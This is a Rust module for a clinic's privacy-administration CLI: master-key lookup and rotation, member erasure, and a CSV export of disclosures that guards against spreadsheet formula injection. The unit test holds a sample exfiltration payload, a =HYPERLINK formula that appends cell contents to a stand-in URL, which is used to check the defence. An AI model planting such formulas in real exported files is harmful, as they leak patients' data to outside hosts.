//! What the `clinic` binary does besides serving, for the privacy duties an operator carries
//! out by hand: finding the master key, erasing a member, rotating the master key, exporting a
//! member's accounting of disclosures. Kept in the library so tests call what the binary calls.

use std::path::Path;

use anyhow::Context as _;
use clinic_domain::MemberId;
use clinic_infra::access_log::{self, AccessEntry, Accessed};
use clinic_infra::clinic::ClinicId;
use clinic_infra::commands::{CommandContext, CommandError, CommandHandler};
use clinic_infra::config::Config;
use clinic_infra::disclosures::{self, DisclosureRecord};
use clinic_infra::erasure::{self, Erasure};
use clinic_infra::event_store::{EventStore, StreamId};
use clinic_infra::keyring::{self, Keyring, MasterKey, Rotation};
use sqlx::PgPool;
use time::format_description::well_known::Rfc3339;
use time::OffsetDateTime;
use uuid::Uuid;

/// Where `serve --dev` keeps the master key it generated, so a second run reads what the first
/// wrote (relative to the working directory; git-ignored).
pub const DEV_MASTER_KEY_FILE: &str = ".clinic-dev/master-key";

/// The variable `clinic rotate-master-key` reads the new master key from (never an argument,
/// which would show in the process list and shell history).
pub const NEW_MASTER_KEY_VARIABLE: &str = "CLINIC_NEW_MASTER_KEY";

/// The master key: `CLINIC_MASTER_KEY`; with `dev` (`serve --dev` only), the development key
/// file, generated and written (and the operator told) when missing. Never the file without
/// `--dev`: a production start must not fall back to a key lying in the working directory.
pub fn master_key(config: &Config, dev: bool) -> anyhow::Result<MasterKey> {
    if let Some(key) = &config.master_key {
        return Ok(key.clone());
    }
    anyhow::ensure!(
        dev,
        "CLINIC_MASTER_KEY is not set: set it to base64 of 32 random bytes \
         (`openssl rand -base64 32`), or run `clinic serve --dev` for a throwaway local key \
         (other commands then take it from `CLINIC_MASTER_KEY=$(cat {DEV_MASTER_KEY_FILE})`)"
    );
    let path = Path::new(DEV_MASTER_KEY_FILE);
    if path.exists() {
        let text = std::fs::read_to_string(path)
            .with_context(|| format!("reading the development master key {}", path.display()))?;
        let key = MasterKey::from_base64(&text)
            .with_context(|| format!("{} is not a master key", path.display()))?;
        tracing::warn!(
            file = %path.display(),
            "--dev: using the development master key (never in production)"
        );
        return Ok(key);
    }
    let (key, text) = MasterKey::generate();
    write_private(path, text.as_bytes())?;
    tracing::warn!(
        file = %path.display(),
        "--dev: generated a development master key (CLINIC_MASTER_KEY) and stored it in the file; \
         never in production"
    );
    eprintln!(
        "dev master key written to {} (set CLINIC_MASTER_KEY for real deployments)",
        path.display()
    );
    Ok(key)
}

fn write_private(path: &Path, contents: &[u8]) -> anyhow::Result<()> {
    use std::io::Write as _;
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
    }
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
    let mut file = options
        .open(path)
        .with_context(|| format!("creating {}", path.display()))?;
    file.write_all(contents)?;
    Ok(())
}

/// The keyring over `pool`, refusing a master key that does not wrap the stored data keys.
pub async fn keyring(pool: &PgPool, master: MasterKey) -> anyhow::Result<Keyring> {
    let keyring = Keyring::new(pool.clone(), master);
    keyring.check_master_key().await?;
    Ok(keyring)
}

/// The clinic a member belongs to (the CLI is not scoped to one): from the store's streams.
pub async fn clinic_of(store: &EventStore, member: MemberId) -> anyhow::Result<ClinicId> {
    let stream = StreamId::of("member", member.as_uuid());
    let mut clinics = store.clinics_of(&stream).await?;
    anyhow::ensure!(
        clinics.len() < 2,
        "member {member} exists in several clinics"
    );
    clinics
        .pop()
        .with_context(|| format!("no member {member} in any clinic"))
}

/// Who the CLI acts as in events' metadata and the access log.
pub fn operator_actor() -> String {
    let user = std::env::var("USER").unwrap_or_else(|_| "operator".to_owned());
    format!("cli:{user}")
}

/// `clinic erase`: erases `member` (see `eraseMember`).
pub async fn erase(
    pool: &PgPool,
    keyring: &Keyring,
    member: MemberId,
    reason: &str,
    retention_days: u32,
) -> anyhow::Result<Erasure> {
    let store = EventStore::new(pool.clone());
    let clinic = clinic_of(&store, member).await?;
    let context = CommandContext {
        clinic,
        actor: operator_actor(),
        correlation_id: Uuid::new_v4(),
        idempotency_key: None,
        request_digest: None,
    };
    let handler = CommandHandler::new(store, keyring.clone());
    erasure::erase_member(
        &handler,
        keyring,
        &context,
        member,
        reason,
        retention_days,
        OffsetDateTime::now_utc(),
    )
    .await
    .map_err(|error| match &error {
        CommandError::Rejected(refusal) => {
            match erasure::explain_refusal(refusal, retention_days) {
                Some(why) => anyhow::anyhow!("refused: {why}"),
                None => anyhow::anyhow!("refused: {refusal}"),
            }
        }
        _ => anyhow::Error::new(error),
    })
}

/// `clinic rotate-master-key`: re-wraps every data key from the configured master key to the
/// one in [`NEW_MASTER_KEY_VARIABLE`].
pub async fn rotate(pool: &PgPool, old: &MasterKey) -> anyhow::Result<Rotation> {
    let new = std::env::var(NEW_MASTER_KEY_VARIABLE)
        .ok()
        .filter(|text| !text.trim().is_empty())
        .with_context(|| format!("{NEW_MASTER_KEY_VARIABLE} must hold the new master key"))?;
    let new = MasterKey::from_base64(&new).with_context(|| NEW_MASTER_KEY_VARIABLE.to_owned())?;
    anyhow::ensure!(
        new.id() != old.id(),
        "{NEW_MASTER_KEY_VARIABLE} is the current master key"
    );
    Ok(keyring::rotate_master_key(pool, old, &new).await?)
}

/// `clinic disclosures`: the member's accounting of disclosures as CSV (newest first), the
/// export logged in the access log like any read of the record.
pub async fn disclosures_csv(
    pool: &PgPool,
    keyring: &Keyring,
    member: MemberId,
    since_days: u32,
    out: impl std::io::Write,
) -> anyhow::Result<usize> {
    let store = EventStore::new(pool.clone());
    let clinic = clinic_of(&store, member).await?;
    let since = OffsetDateTime::now_utc() - time::Duration::days(i64::from(since_days));
    let records = disclosures::accounting(&store, keyring, &clinic, member, since)
        .await?
        .with_context(|| format!("no member {member}"))?;
    access_log::record(
        pool,
        &clinic,
        &[AccessEntry {
            actor: operator_actor(),
            role: "admin".to_owned(),
            accessed: Accessed::Member(member.as_uuid()),
            action: "export",
            category: Some("disclosures"),
            allowed: true,
            operation: "cli:disclosures".to_owned(),
            correlation_id: Uuid::new_v4(),
            break_glass_reason: None,
        }],
    )
    .await?;
    write_csv(&records, out)?;
    Ok(records.len())
}

/// The CSV columns of the accounting, one disclosure per row.
pub const CSV_HEADER: [&str; 12] = [
    "disclosed_at",
    "recipient",
    "purpose",
    "description",
    "channel",
    "disclosed_by",
    "consent_id",
    "consent_kind",
    "consent_signed_by",
    "consent_in_force",
    "disclosure_id",
    "notice",
];

/// Free text as a CSV cell a spreadsheet shows as text: the member gets this file, and a cell
/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula when
/// opened in Excel or LibreOffice (`=HYPERLINK(...)` sending the sheet's contents away). Such a
/// cell is prefixed with an apostrophe, which spreadsheets take as "text" (OWASP, CSV
/// injection); the csv crate quotes but does not neutralise.
fn spreadsheet_text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn write_csv(records: &[DisclosureRecord], out: impl std::io::Write) -> anyhow::Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(CSV_HEADER)?;
    let now = OffsetDateTime::now_utc();
    for record in records {
        writer.write_record([
            record.disclosed_at.format(&Rfc3339)?,
            spreadsheet_text(&record.recipient),
            spreadsheet_text(&record.purpose),
            spreadsheet_text(&record.description),
            spreadsheet_text(&record.channel),
            spreadsheet_text(&record.disclosed_by),
            record.consent.id.to_string(),
            record.consent.kind.as_str().to_owned(),
            spreadsheet_text(&record.consent.signed_by),
            record.consent.in_force_at(now).to_string(),
            record.id.to_string(),
            spreadsheet_text(&record.notice),
        ])?;
    }
    writer.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn free_text_that_a_spreadsheet_would_run_is_kept_as_text() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&B2,\"Dr Lee\")",
            "+1+1",
            "-2",
            "@SUM(A1)",
            "\tx",
        ] {
            assert_eq!(spreadsheet_text(formula), format!("'{formula}"));
        }
        for text in ["Harbor Step-Down Clinic", "secure fax", "e-mail", "1 = 1"] {
            assert_eq!(spreadsheet_text(text), text);
        }
    }
}
